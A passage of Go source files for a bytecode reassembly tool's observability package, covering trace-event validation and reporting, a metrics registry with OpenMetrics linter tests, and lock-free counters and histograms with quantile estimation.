			Descriptor: "Lbad/E;",
			Superclass: "Ljava/lang/Object;",
			Methods: []collector.MethodShell{{
				Name: "h", Signature: "not-a-signature",
			}},
		}},
		Methods: map[string]*collector.MethodRecord{},
	}
	if _, _, err := Reassemble(res); err == nil {
		t.Error("unparsable shell signature must fail reassembly")
	}
}
