package obs

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"
	"time"
)

// Validate checks the per-type required fields of a trace event. ReadTrace
// applies it to every line, which makes reading a trace file a schema
// validation (the CI trace job relies on this).
func (e *Event) Validate() error {
	if int(e.Type) >= int(numEventTypes) {
		return fmt.Errorf("obs: unknown event type %d", uint8(e.Type))
	}
	if e.TS < 0 {
		return fmt.Errorf("obs: %s: negative timestamp %d", e.Type, e.TS)
	}
	if e.PC < 0 {
		return fmt.Errorf("obs: %s: negative pc %d", e.Type, e.PC)
	}
	need := func(ok bool, what string) error {
		if ok {
			return nil
		}
		return fmt.Errorf("obs: %s: missing %s", e.Type, what)
	}
	switch e.Type {
	case EventSpanStart:
		return need(e.Span != 0 && e.Name != "", "span id or name")
	case EventSpanEnd:
		if e.DurNS < 0 {
			return fmt.Errorf("obs: span_end: negative duration %d", e.DurNS)
		}
		return need(e.Span != 0 && e.Name != "", "span id or name")
	case EventMethodCollected:
		if err := need(e.Method != "", "method"); err != nil {
			return err
		}
		return need(e.Depth >= 1 && e.Count >= 1, "tree depth/size")
	case EventTreeFork, EventTreeConverge:
		if err := need(e.Method != "", "method"); err != nil {
			return err
		}
		return need(e.Depth >= 1, "layer depth")
	case EventUCBFlip:
		if e.Branch != BranchTaken && e.Branch != BranchFallthrough {
			return fmt.Errorf("obs: ucb_flip: bad branch %q", e.Branch)
		}
		return need(e.Method != "", "method")
	case EventExceptionTolerated:
		return need(e.Method != "", "method")
	case EventReflectionRewrite:
		return need(e.Method != "" && e.Target != "", "method or target")
	case EventMergeVariant:
		if err := need(e.Method != "", "method"); err != nil {
			return err
		}
		if e.From < e.Count || e.Count < 1 {
			return fmt.Errorf("obs: merge_variant: %d trees into %d arrays", e.From, e.Count)
		}
		return nil
	case EventStubEmitted:
		return need(e.Method != "", "method")
	case EventVerifyDefect, EventConcurrentEntry:
		return need(e.Detail != "", "detail")
	case EventCacheHit, EventCacheMiss:
		return need(e.Detail != "", "cache key")
	case EventJobEnqueued:
		return need(e.Detail != "", "job id")
	case EventQueueWait:
		if e.DurNS < 0 {
			return fmt.Errorf("obs: queue_wait: negative duration %d", e.DurNS)
		}
		return need(e.Detail != "", "job id")
	case EventJobDone:
		if e.DurNS < 0 {
			return fmt.Errorf("obs: job_done: negative duration %d", e.DurNS)
		}
		if e.Name != JobOK && e.Name != JobFailed {
			return fmt.Errorf("obs: job_done: bad outcome %q", e.Name)
		}
		return need(e.Detail != "", "job id")
	case EventWorkerMerge:
		if e.Worker < 0 {
			return fmt.Errorf("obs: worker_merge: negative shard index %d", e.Worker)
		}
		if e.Count < 0 || e.From < e.Count {
			return fmt.Errorf("obs: worker_merge: kept %d of %d offered trees", e.Count, e.From)
		}
		return nil
	case EventWorkerClamp:
		if e.Count < 1 || e.From < e.Count {
			return fmt.Errorf("obs: worker_clamp: %d workers clamped to %d", e.From, e.Count)
		}
		return nil
	case EventPredecodeHit, EventPredecodeInvalidate:
		return need(e.Method != "", "method")
	case EventResourceSample:
		if e.Bytes < 0 {
			return fmt.Errorf("obs: resource_sample: negative alloc bytes %d", e.Bytes)
		}
		return need(e.Name != "", "stage")
	case EventSLOViolation:
		if e.SLONS <= 0 || e.DurNS < e.SLONS {
			return fmt.Errorf("obs: slo_violation: latency %d within objective %d", e.DurNS, e.SLONS)
		}
		return need(e.Detail != "", "job id")
	case EventFlightDump:
		if e.Name != FlightReasonFailed && e.Name != FlightReasonSLO {
			return fmt.Errorf("obs: flight_dump: bad reason %q", e.Name)
		}
		if e.Count < 0 {
			return fmt.Errorf("obs: flight_dump: negative event count %d", e.Count)
		}
		return need(e.Detail != "", "job id")
	case EventPeerFetch:
		if e.Name != PeerHit && e.Name != PeerMiss {
			return fmt.Errorf("obs: peer_fetch: bad outcome %q", e.Name)
		}
		return need(e.Detail != "" && e.Target != "", "cache key or peer")
	case EventFleetForward:
		if e.Name != ForwardOwner && e.Name != ForwardReplica && e.Name != ForwardTakeover {
			return fmt.Errorf("obs: fleet_forward: bad role %q", e.Name)
		}
		return need(e.Detail != "" && e.Target != "", "cache key or target node")
	case EventFleetHop:
		return need(e.Detail != "" && e.Target != "", "job id or node")
	case EventRingRebuild:
		if e.Count < 1 || e.From < e.Count {
			return fmt.Errorf("obs: ring_rebuild: %d of %d members alive", e.Count, e.From)
		}
		return nil
	case EventMethodCacheHit, EventMethodCacheMiss:
		return need(e.Method != "", "method")
	case EventTreeSplice:
		if e.Count < 1 {
			return fmt.Errorf("obs: tree_splice: spliced %d trees", e.Count)
		}
		return need(e.Method != "", "method")
	case EventMemSpill:
		if e.Bytes < 1 {
			return fmt.Errorf("obs: mem_spill: spilled %d bytes", e.Bytes)
		}
		return need(e.Method != "" && e.Detail != "", "method or store key")
	case EventMemAdmitWait:
		if e.DurNS < 0 {
			return fmt.Errorf("obs: mem_admit_wait: negative wait %d", e.DurNS)
		}
		if e.Bytes < 1 {
			return fmt.Errorf("obs: mem_admit_wait: requested %d bytes", e.Bytes)
		}
		return need(e.Detail != "", "job id")
	}
	return nil
}

// ParseEvent decodes and validates one JSONL trace line. Unknown JSON
// fields are rejected, so the schema cannot drift silently.
func ParseEvent(line []byte) (*Event, error) {
	dec := json.NewDecoder(bytes.NewReader(line))
	dec.DisallowUnknownFields()
	var ev Event
	if err := dec.Decode(&ev); err != nil {
		return nil, fmt.Errorf("obs: bad trace line: %w", err)
	}
	if err := ev.Validate(); err != nil {
		return nil, err
	}
	return &ev, nil
}

// Trace is a parsed, validated trace file.
type Trace struct {
	Events []*Event
}

// FilterTrace keeps only the events stamped with the given trace identity —
// one job's end-to-end span tree extracted from a shared sink. The result
// shares the underlying events with the receiver.
func (t *Trace) FilterTrace(id string) *Trace {
	out := &Trace{}
	for _, ev := range t.Events {
		if ev.Trace == id {
			out.Events = append(out.Events, ev)
		}
	}
	return out
}

// TraceIDs returns the distinct non-empty trace identities present, in
// first-seen order.
func (t *Trace) TraceIDs() []string {
	seen := make(map[string]bool)
	var out []string
	for _, ev := range t.Events {
		if ev.Trace != "" && !seen[ev.Trace] {
			seen[ev.Trace] = true
			out = append(out, ev.Trace)
		}
	}
	return out
}

// ReadTrace parses a JSONL trace, validating every line; the returned error
// carries the 1-based line number of the first invalid line.
func ReadTrace(r io.Reader) (*Trace, error) {
	tr := &Trace{}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 16*1024*1024)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		ev, err := ParseEvent(line)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		tr.Events = append(tr.Events, ev)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return tr, nil
}

// MergeDecision is one reassembler merge recorded in a trace.
type MergeDecision struct {
	Method string
	From   int // raw collection trees
	To     int // instruction arrays kept (variants when > 1)
}

// AppTrace aggregates one application's events — the per-app table a
// paper-style evaluation would cite: stage wall times, the collection-tree
// depth histogram, fork counts by method, UCB flips per force-execution
// iteration, and the reassembler's merge decisions.
type AppTrace struct {
	App      string
	RootSpan uint64
	WallNS   int64 // root span duration (0 if the span never ended)

	StageNS          map[string]int64 // stage name -> summed wall NS
	MethodsCollected int
	CollectedInsns   int
	TreeDepthHist    map[int]int // collection-tree depth -> trees
	ForksByMethod    map[string]int
	Converges        int
	FlipsByIter      map[int]int
	ExceptionsTol    int
	ShardMerges      int // worker_merge events (collection shards folded in)
	ShardTreesKept   int // trees adopted from shards
	ShardDedupHits   int // shard trees discarded as fingerprint duplicates
	Merges           []MergeDecision
	Stubs            int
	ReflRewrites     int
	Defects          []string
	ConcurrentUses   []string
	PredecodeHits    int
	PredecodeInvals  int
	MethodCacheHits  int
	MethodCacheMiss  int
	TreesSpliced     int   // trees adopted from the incremental method cache
	MemSpills        int   // method records displaced to the spill tier
	SpilledBytes     int64 // serialized volume of the spilled records
	AdmitWaits       int   // jobs blocked in the memory-budget admission gate
	AdmitWaitNS      int64 // summed admission-gate blocking time
	ResourceSamples  int
	AllocBytes       int64 // summed resource_sample allocation
	PeakHeapDelta    int64 // max live-heap growth observed at a stage boundary
	SLOViolations    int
	FlightDumps      int
}

const unattributed = "(unattributed)"

// Apps groups the trace's events by the root span they occurred under,
// sorted by application label. Events whose span is unknown (or 0) land in
// an "(unattributed)" bucket.
func (t *Trace) Apps() []*AppTrace {
	parent := make(map[uint64]uint64)
	label := make(map[uint64]string) // root span id -> app label
	for _, ev := range t.Events {
		if ev.Type != EventSpanStart {
			continue
		}
		parent[ev.Span] = ev.Parent
		if ev.Parent == 0 {
			name := ev.App
			if name == "" {
				name = ev.Name
			}
			label[ev.Span] = name
		}
	}
	rootMemo := make(map[uint64]uint64)
	var rootOf func(span uint64) uint64
	rootOf = func(span uint64) uint64 {
		if r, ok := rootMemo[span]; ok {
			return r
		}
		p, ok := parent[span]
		var r uint64
		switch {
		case !ok:
			r = 0 // unknown span: unattributed
		case p == 0:
			r = span
		default:
			r = rootOf(p)
		}
		rootMemo[span] = r
		return r
	}

	apps := make(map[uint64]*AppTrace)
	appFor := func(span uint64) *AppTrace {
		root := rootOf(span)
		a, ok := apps[root]
		if !ok {
			name := label[root]
			if root == 0 || name == "" {
				name = unattributed
			}
			a = &AppTrace{
				App:           name,
				RootSpan:      root,
				StageNS:       make(map[string]int64),
				TreeDepthHist: make(map[int]int),
				ForksByMethod: make(map[string]int),
				FlipsByIter:   make(map[int]int),
			}
			apps[root] = a
		}
		return a
	}

	for _, ev := range t.Events {
		a := appFor(ev.Span)
		switch ev.Type {
		case EventSpanEnd:
			switch {
			case ev.Span == a.RootSpan:
				a.WallNS += ev.DurNS
			case strings.HasPrefix(ev.Name, "stage."):
				a.StageNS[strings.TrimPrefix(ev.Name, "stage.")] += ev.DurNS
			}
		case EventMethodCollected:
			a.MethodsCollected++
			a.CollectedInsns += ev.Count
			a.TreeDepthHist[ev.Depth]++
		case EventTreeFork:
			a.ForksByMethod[ev.Method]++
		case EventTreeConverge:
			a.Converges++
		case EventUCBFlip:
			a.FlipsByIter[ev.Iter]++
		case EventExceptionTolerated:
			a.ExceptionsTol++
		case EventWorkerMerge:
			a.ShardMerges++
			a.ShardTreesKept += ev.Count
			a.ShardDedupHits += ev.From - ev.Count
		case EventMergeVariant:
			a.Merges = append(a.Merges, MergeDecision{Method: ev.Method, From: ev.From, To: ev.Count})
		case EventStubEmitted:
			a.Stubs++
		case EventReflectionRewrite:
			a.ReflRewrites++
		case EventVerifyDefect:
			a.Defects = append(a.Defects, ev.Detail)
		case EventConcurrentEntry:
			a.ConcurrentUses = append(a.ConcurrentUses, ev.Detail)
		case EventPredecodeHit:
			a.PredecodeHits++
		case EventPredecodeInvalidate:
			a.PredecodeInvals++
		case EventMethodCacheHit:
			a.MethodCacheHits++
		case EventMethodCacheMiss:
			a.MethodCacheMiss++
		case EventTreeSplice:
			a.TreesSpliced += ev.Count
		case EventMemSpill:
			a.MemSpills++
			a.SpilledBytes += ev.Bytes
		case EventMemAdmitWait:
			a.AdmitWaits++
			a.AdmitWaitNS += ev.DurNS
		case EventResourceSample:
			a.ResourceSamples++
			a.AllocBytes += ev.Bytes
			if ev.Heap > a.PeakHeapDelta {
				a.PeakHeapDelta = ev.Heap
			}
		case EventSLOViolation:
			a.SLOViolations++
		case EventFlightDump:
			a.FlightDumps++
		}
	}
	out := make([]*AppTrace, 0, len(apps))
	for _, a := range apps {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].App != out[j].App {
			return out[i].App < out[j].App
		}
		return out[i].RootSpan < out[j].RootSpan
	})
	return out
}

func sortedKeys[K int | string, V any](m map[K]V) []K {
	keys := make([]K, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	return keys
}

// ReportString renders the per-app tables of the trace.
func (t *Trace) ReportString() string {
	var sb strings.Builder
	apps := t.Apps()
	fmt.Fprintf(&sb, "trace: %d events, %d app(s)\n", len(t.Events), len(apps))
	for _, a := range apps {
		fmt.Fprintf(&sb, "\napp %s (span %d, wall %v)\n",
			a.App, a.RootSpan, time.Duration(a.WallNS).Round(time.Microsecond))
		for _, stage := range sortedKeys(a.StageNS) {
			fmt.Fprintf(&sb, "  stage %-16s %12v\n",
				stage, time.Duration(a.StageNS[stage]).Round(time.Microsecond))
		}
		fmt.Fprintf(&sb, "  methods collected: %d (%d unique insns), converges: %d\n",
			a.MethodsCollected, a.CollectedInsns, a.Converges)
		if len(a.TreeDepthHist) > 0 {
			sb.WriteString("  tree depth histogram:")
			for _, d := range sortedKeys(a.TreeDepthHist) {
				fmt.Fprintf(&sb, " depth%d:%d", d, a.TreeDepthHist[d])
			}
			sb.WriteByte('\n')
		}
		if len(a.ForksByMethod) > 0 {
			sb.WriteString("  forks by method:\n")
			for _, m := range sortedKeys(a.ForksByMethod) {
				fmt.Fprintf(&sb, "    %-60s %d\n", m, a.ForksByMethod[m])
			}
		}
		if len(a.FlipsByIter) > 0 {
			sb.WriteString("  ucb flips by iteration:")
			for _, it := range sortedKeys(a.FlipsByIter) {
				fmt.Fprintf(&sb, " iter%d:%d", it, a.FlipsByIter[it])
			}
			fmt.Fprintf(&sb, " (exceptions tolerated: %d)\n", a.ExceptionsTol)
		}
		if a.ShardMerges > 0 {
			fmt.Fprintf(&sb, "  collection shards merged: %d (%d trees kept, %d dedup hits)\n",
				a.ShardMerges, a.ShardTreesKept, a.ShardDedupHits)
		}
		if len(a.Merges) > 0 {
			sb.WriteString("  merge decisions:\n")
			for _, m := range a.Merges {
				fmt.Fprintf(&sb, "    %-60s %d tree(s) -> %d array(s)\n", m.Method, m.From, m.To)
			}
		}
		if a.MethodCacheHits > 0 || a.MethodCacheMiss > 0 {
			fmt.Fprintf(&sb, "  method cache: %d hits, %d misses, %d trees spliced\n",
				a.MethodCacheHits, a.MethodCacheMiss, a.TreesSpliced)
		}
		if a.ResourceSamples > 0 {
			fmt.Fprintf(&sb, "  resources: %d samples, %d bytes allocated, peak heap delta %d bytes\n",
				a.ResourceSamples, a.AllocBytes, a.PeakHeapDelta)
		}
		if a.MemSpills > 0 || a.AdmitWaits > 0 {
			fmt.Fprintf(&sb, "  memory budget: %d records spilled (%d bytes), %d admission waits (%v)\n",
				a.MemSpills, a.SpilledBytes, a.AdmitWaits,
				time.Duration(a.AdmitWaitNS).Round(time.Microsecond))
		}
		if a.SLOViolations > 0 || a.FlightDumps > 0 {
			fmt.Fprintf(&sb, "  SLO violations: %d, flight dumps: %d\n",
				a.SLOViolations, a.FlightDumps)
		}
		fmt.Fprintf(&sb, "  stubs: %d, reflection rewrites: %d, verify defects: %d\n",
			a.Stubs, a.ReflRewrites, len(a.Defects))
		for _, d := range a.Defects {
			fmt.Fprintf(&sb, "    defect: %s\n", d)
		}
		for _, d := range a.ConcurrentUses {
			fmt.Fprintf(&sb, "    CONCURRENT COLLECTOR USE: %s\n", d)
		}
	}
	return sb.String()
}
