package obs

import (
	"math"
	"strings"
	"testing"
)

// TestRegistryRoundTrip renders a registry covering all three metric types
// and re-parses it with the strict linter: what we serve must be exactly
// what the scrape validator accepts.
func TestRegistryRoundTrip(t *testing.T) {
	r := NewRegistry("dexlego")
	jobs := r.Counter("jobs_submitted", "Jobs accepted by admission control.")
	jobs.Add(7)
	r.CounterFunc("trace_dropped", "Events lost to sink errors.", func() int64 { return 2 })
	queued := r.Gauge("jobs", "Jobs by lifecycle state.", L("state", "queued"))
	queued.Set(3)
	r.GaugeFunc("jobs", "Jobs by lifecycle state.", func() int64 { return 1 }, L("state", "running"))
	h := r.Histogram("stage_latency_nanoseconds", "Per-stage wall time.", L("stage", "collection"))
	h.Observe(100)
	h.Observe(100000)
	h.Observe(3)

	var sb strings.Builder
	if err := r.WriteOpenMetrics(&sb); err != nil {
		t.Fatal(err)
	}
	text := sb.String()
	if !strings.HasSuffix(text, "# EOF\n") {
		t.Fatalf("exposition does not end with # EOF:\n%s", text)
	}
	e, err := ParseExposition(strings.NewReader(text))
	if err != nil {
		t.Fatalf("rendered exposition does not lint: %v\n%s", err, text)
	}
	if v, ok := e.Value("dexlego_jobs_submitted_total"); !ok || v != 7 {
		t.Errorf("jobs_submitted_total = %v,%t want 7", v, ok)
	}
	if v, ok := e.Value("dexlego_trace_dropped_total"); !ok || v != 2 {
		t.Errorf("trace_dropped_total = %v,%t want 2", v, ok)
	}
	if v, ok := e.Value("dexlego_jobs", L("state", "queued")); !ok || v != 3 {
		t.Errorf("jobs{state=queued} = %v,%t want 3", v, ok)
	}
	if v, ok := e.Value("dexlego_jobs", L("state", "running")); !ok || v != 1 {
		t.Errorf("jobs{state=running} = %v,%t want 1", v, ok)
	}
	f := e.Family("dexlego_stage_latency_nanoseconds")
	if f == nil || f.Type != "histogram" {
		t.Fatalf("histogram family missing: %+v", f)
	}
	var sum, count float64
	for _, s := range f.Samples {
		switch {
		case strings.HasSuffix(s.Name, "_sum"):
			sum = s.Value
		case strings.HasSuffix(s.Name, "_count"):
			count = s.Value
		}
	}
	if count != 3 || sum != 100103 {
		t.Errorf("histogram count/sum = %v/%v, want 3/100103", count, sum)
	}
}

// TestRegistryHistogramFunc covers the lazy histogram path the server uses
// for span-duration histograms.
func TestRegistryHistogramFunc(t *testing.T) {
	var h Histogram
	h.Observe(50)
	r := NewRegistry("t")
	r.HistogramFunc("spans", "span durations", h.Snapshot)
	var sb strings.Builder
	if err := r.WriteOpenMetrics(&sb); err != nil {
		t.Fatal(err)
	}
	e, err := ParseExposition(strings.NewReader(sb.String()))
	if err != nil {
		t.Fatalf("lint: %v\n%s", err, sb.String())
	}
	if v, ok := e.Value("t_spans_count"); !ok || v != 1 {
		t.Errorf("spans_count = %v,%t want 1", v, ok)
	}
}

// TestRegistryOverflowBucketRendersInf exercises the MaxInt64 bucket: it
// must fold into +Inf, never print a 9.2e18 bound.
func TestRegistryOverflowBucketRendersInf(t *testing.T) {
	r := NewRegistry("t")
	h := r.Histogram("big", "overflow values")
	h.Observe(int64(1) << 62) // lands in the top (MaxInt64-bounded) bucket
	var sb strings.Builder
	if err := r.WriteOpenMetrics(&sb); err != nil {
		t.Fatal(err)
	}
	text := sb.String()
	if strings.Contains(text, "9223372036854775807") {
		t.Errorf("raw MaxInt64 bound leaked into exposition:\n%s", text)
	}
	if _, err := ParseExposition(strings.NewReader(text)); err != nil {
		t.Fatalf("lint: %v\n%s", err, text)
	}
}

func TestRegistryPanicsOnConflicts(t *testing.T) {
	expectPanic := func(name string, f func()) {
		t.Helper()
		defer func() {
			if recover() == nil {
				t.Errorf("%s did not panic", name)
			}
		}()
		f()
	}
	r := NewRegistry("t")
	r.Counter("a", "")
	expectPanic("duplicate series", func() { r.Counter("a", "") })
	expectPanic("type conflict", func() { r.Gauge("a", "") })
	expectPanic("bad name", func() { r.Counter("bad-name", "") })
	expectPanic("bad label", func() { r.Counter("b", "", L("bad-label", "x")) })
}

func TestRegistryEscapesLabelValues(t *testing.T) {
	r := NewRegistry("t")
	r.Gauge("g", "", L("path", "a\"b\\c\nd"))
	var sb strings.Builder
	if err := r.WriteOpenMetrics(&sb); err != nil {
		t.Fatal(err)
	}
	e, err := ParseExposition(strings.NewReader(sb.String()))
	if err != nil {
		t.Fatalf("lint: %v\n%s", err, sb.String())
	}
	if _, ok := e.Value("t_g", L("path", "a\"b\\c\nd")); !ok {
		t.Errorf("escaped label did not round trip:\n%s", sb.String())
	}
}

// TestParseExpositionRejects exercises the linter's failure modes one by
// one; each input is a minimal broken exposition.
func TestParseExpositionRejects(t *testing.T) {
	cases := map[string]string{
		"missing EOF":         "# TYPE a counter\na_total 1\n",
		"content after EOF":   "# EOF\n# TYPE a counter\n",
		"sample w/o family":   "orphan_total 1\n# EOF\n",
		"counter w/o _total":  "# TYPE a counter\na 1\n# EOF\n",
		"negative counter":    "# TYPE a counter\na_total -1\n# EOF\n",
		"duplicate TYPE":      "# TYPE a counter\n# TYPE a counter\n# EOF\n",
		"duplicate sample":    "# TYPE a gauge\na 1\na 2\n# EOF\n",
		"bucket without le":   "# TYPE h histogram\nh_bucket 1\nh_sum 0\nh_count 1\n# EOF\n",
		"no +Inf bucket":      "# TYPE h histogram\nh_bucket{le=\"1\"} 1\nh_sum 1\nh_count 1\n# EOF\n",
		"non-cumulative":      "# TYPE h histogram\nh_bucket{le=\"1\"} 5\nh_bucket{le=\"2\"} 3\nh_bucket{le=\"+Inf\"} 5\nh_sum 1\nh_count 5\n# EOF\n",
		"inf != count":        "# TYPE h histogram\nh_bucket{le=\"+Inf\"} 5\nh_sum 1\nh_count 4\n# EOF\n",
		"interleaved family":  "# TYPE a gauge\n# TYPE b gauge\na 1\n# EOF\n",
		"bad value":           "# TYPE a gauge\na one\n# EOF\n",
		"unterminated labels": "# TYPE a gauge\na{x=\"1 2\n# EOF\n",
		"blank line":          "# TYPE a gauge\n\na 1\n# EOF\n",
	}
	for name, text := range cases {
		if _, err := ParseExposition(strings.NewReader(text)); err == nil {
			t.Errorf("%s: linter accepted invalid exposition:\n%s", name, text)
		}
	}
}

// --- quantile estimation -----------------------------------------------------

func TestQuantileEmptyHistogram(t *testing.T) {
	var s *HistSnapshot
	if _, ok := s.Quantile(0.5); ok {
		t.Error("nil snapshot must report no quantile")
	}
	empty := &HistSnapshot{}
	if _, ok := empty.Quantile(0.5); ok {
		t.Error("empty snapshot must report no quantile")
	}
}

func TestQuantileSingleBucket(t *testing.T) {
	var h Histogram
	for i := 0; i < 10; i++ {
		h.Observe(100) // all land in the [64, 127] bucket
	}
	s := h.Snapshot()
	lo, ok := s.Quantile(0)
	if !ok || lo < 64 || lo > 127 {
		t.Errorf("q0 = %v,%t want within [64,127]", lo, ok)
	}
	hi, ok := s.Quantile(1)
	if !ok || hi < lo || hi > 127 {
		t.Errorf("q1 = %v,%t want within [%v,127]", hi, ok, lo)
	}
	mid, ok := s.Quantile(0.5)
	if !ok || mid < lo || mid > hi {
		t.Errorf("q0.5 = %v,%t not inside [%v,%v]", mid, ok, lo, hi)
	}
	// Quantiles are monotone in q.
	if !(lo <= mid && mid <= hi) {
		t.Errorf("quantiles not monotone: %v %v %v", lo, mid, hi)
	}
}

func TestQuantileOverflowBucket(t *testing.T) {
	var h Histogram
	h.Observe(math.MaxInt64) // top bucket, le = MaxInt64
	s := h.Snapshot()
	v, ok := s.Quantile(0.99)
	if !ok {
		t.Fatal("overflow-bucket histogram reported no quantile")
	}
	want := float64(int64(1) << 62)
	if v != want {
		t.Errorf("overflow quantile = %v, want pinned lower bound %v", v, want)
	}
}

func TestQuantileAcrossBuckets(t *testing.T) {
	var h Histogram
	for i := 0; i < 90; i++ {
		h.Observe(10)
	}
	for i := 0; i < 10; i++ {
		h.Observe(1000)
	}
	s := h.Snapshot()
	p50, _ := s.Quantile(0.5)
	p99, _ := s.Quantile(0.99)
	if p50 > 15 {
		t.Errorf("p50 = %v, want near 10", p50)
	}
	if p99 < 512 || p99 > 1023 {
		t.Errorf("p99 = %v, want inside the 1000s bucket [512,1023]", p99)
	}
	if q, _ := s.Quantile(-1); q > 15 {
		t.Errorf("q<0 must clamp to q0, got %v", q)
	}
	if q, _ := s.Quantile(2); q < 512 {
		t.Errorf("q>1 must clamp to q1, got %v", q)
	}
}
