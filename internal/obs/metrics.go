package obs

import (
	"math"
	"math/bits"
	"sort"
	"sync/atomic"
	"unsafe"
)

// counterShards is the cell count of a sharded counter. Eight padded cells
// keep concurrent writers on distinct cache lines without a lookup table.
const counterShards = 8

// cell is one cache-line-padded counter slot.
type cell struct {
	n atomic.Int64
	_ [56]byte // pad to 64 bytes so neighboring cells never share a line
}

// shard picks a cell for the calling goroutine. Goroutine stacks live in
// distinct allocations, so the address of a local variable is a cheap,
// race-free shard key; the exact distribution does not matter, only that
// concurrent writers usually land on different cells.
func shard() int {
	var b byte
	return int(uintptr(unsafe.Pointer(&b)) >> 6 & (counterShards - 1))
}

// Counter is a lock-free, shardable event counter. The zero value is ready
// to use; Add never blocks and Load sums the cells.
type Counter struct {
	cells [counterShards]cell
}

// Add increments the counter by d.
func (c *Counter) Add(d int64) { c.cells[shard()].n.Add(d) }

// Load returns the current total.
func (c *Counter) Load() int64 {
	var total int64
	for i := range c.cells {
		total += c.cells[i].n.Load()
	}
	return total
}

// Gauge is an atomic instantaneous value with a monotonic Max helper.
type Gauge struct {
	v atomic.Int64
}

// Set stores v.
func (g *Gauge) Set(v int64) { g.v.Store(v) }

// Max raises the gauge to v if v is larger.
func (g *Gauge) Max(v int64) {
	for {
		cur := g.v.Load()
		if v <= cur || g.v.CompareAndSwap(cur, v) {
			return
		}
	}
}

// Load returns the current value.
func (g *Gauge) Load() int64 { return g.v.Load() }

// histBuckets is the bucket count of a Histogram: one bucket per bit length
// of the observed value, i.e. power-of-two boundaries.
const histBuckets = 64

// Histogram is a lock-free log2-bucketed histogram of non-negative values
// (durations in nanoseconds, depths, counts). The zero value is ready to
// use.
type Histogram struct {
	count atomic.Int64
	sum   atomic.Int64
	b     [histBuckets]atomic.Int64
}

// Observe records v (clamped at 0).
func (h *Histogram) Observe(v int64) {
	if v < 0 {
		v = 0
	}
	h.count.Add(1)
	h.sum.Add(v)
	h.b[bits.Len64(uint64(v))&(histBuckets-1)].Add(1)
}

// HistBucket is one populated histogram bucket: Count values were <= LeNS.
type HistBucket struct {
	LeNS  int64 `json:"leNS"`
	Count int64 `json:"count"`
}

// HistSnapshot is the serializable state of a Histogram.
type HistSnapshot struct {
	Count   int64        `json:"count"`
	SumNS   int64        `json:"sumNS"`
	Buckets []HistBucket `json:"buckets,omitempty"`
}

func bucketBound(i int) int64 {
	if i >= 63 {
		return math.MaxInt64
	}
	return (int64(1) << i) - 1
}

// Snapshot captures the histogram's populated buckets.
func (h *Histogram) Snapshot() HistSnapshot {
	s := HistSnapshot{Count: h.count.Load(), SumNS: h.sum.Load()}
	for i := range h.b {
		if n := h.b[i].Load(); n != 0 {
			s.Buckets = append(s.Buckets, HistBucket{LeNS: bucketBound(i), Count: n})
		}
	}
	return s
}

// bucketLower returns the smallest value a bucket with upper bound ub can
// hold: bucket i covers [2^(i-1), 2^i - 1] (bucket 0 holds only 0), so the
// lower bound is recoverable from the upper bound alone. The overflow
// bucket (ub = MaxInt64) starts at 2^62.
func bucketLower(ub int64) float64 {
	switch {
	case ub <= 0:
		return 0
	case ub == math.MaxInt64:
		return float64(int64(1) << 62)
	default:
		return float64((ub + 1) / 2)
	}
}

// Quantile estimates the q-quantile of the observed distribution by linear
// interpolation inside the log2 bucket holding the target rank; q is
// clamped into [0, 1]. The second return is false for an empty histogram
// (there is no distribution to estimate). For the overflow bucket the
// upper bound is unbounded, so the estimate is pinned to the bucket's
// lower bound — a deliberate underestimate rather than a fabricated tail.
func (s *HistSnapshot) Quantile(q float64) (float64, bool) {
	if s == nil || s.Count <= 0 {
		return 0, false
	}
	if q < 0 {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	rank := q * float64(s.Count)
	var cum int64
	for _, b := range s.Buckets {
		if float64(cum+b.Count) >= rank {
			lower := bucketLower(b.LeNS)
			if b.LeNS == math.MaxInt64 {
				return lower, true
			}
			if b.Count == 0 {
				return float64(b.LeNS), true
			}
			frac := (rank - float64(cum)) / float64(b.Count)
			return lower + frac*(float64(b.LeNS)-lower), true
		}
		cum += b.Count
	}
	// Rank past every bucket (a torn snapshot): report the largest bound.
	if n := len(s.Buckets); n > 0 {
		le := s.Buckets[n-1].LeNS
		if le == math.MaxInt64 {
			return bucketLower(le), true
		}
		return float64(le), true
	}
	return 0, false
}

// merge adds o into s, combining buckets by upper bound.
func (s *HistSnapshot) merge(o HistSnapshot) {
	s.Count += o.Count
	s.SumNS += o.SumNS
	byLe := make(map[int64]int64, len(s.Buckets)+len(o.Buckets))
	for _, b := range s.Buckets {
		byLe[b.LeNS] += b.Count
	}
	for _, b := range o.Buckets {
		byLe[b.LeNS] += b.Count
	}
	s.Buckets = s.Buckets[:0]
	for le, n := range byLe {
		s.Buckets = append(s.Buckets, HistBucket{LeNS: le, Count: n})
	}
	sort.Slice(s.Buckets, func(i, j int) bool { return s.Buckets[i].LeNS < s.Buckets[j].LeNS })
}

// Snapshot is the serializable aggregate of a tracer's metrics: event
// counts by type, the deepest collection tree seen, dropped-line count, and
// per-span-name duration histograms. It rides inside pipeline.AppMetrics
// ("obs") and merges across apps into the batch report.
type Snapshot struct {
	Events       map[string]int64        `json:"events,omitempty"`
	MaxTreeDepth int64                   `json:"maxTreeDepth,omitempty"`
	Dropped      int64                   `json:"dropped,omitempty"`
	Spans        map[string]HistSnapshot `json:"spans,omitempty"`
}

// Snapshot captures the tracer's metrics; nil on a nil tracer.
func (t *Tracer) Snapshot() *Snapshot {
	if t == nil {
		return nil
	}
	snap := &Snapshot{
		MaxTreeDepth: t.maxDepth.Load(),
		Dropped:      t.dropped.Load(),
	}
	for i := 0; i < int(numEventTypes); i++ {
		if v := t.counters[i].Load(); v != 0 {
			if snap.Events == nil {
				snap.Events = make(map[string]int64)
			}
			snap.Events[EventType(i).String()] = v
		}
	}
	t.spans.Range(func(k, v any) bool {
		if snap.Spans == nil {
			snap.Spans = make(map[string]HistSnapshot)
		}
		snap.Spans[k.(string)] = v.(*Histogram).Snapshot()
		return true
	})
	return snap
}

// EventCount returns the recorded count of one event type.
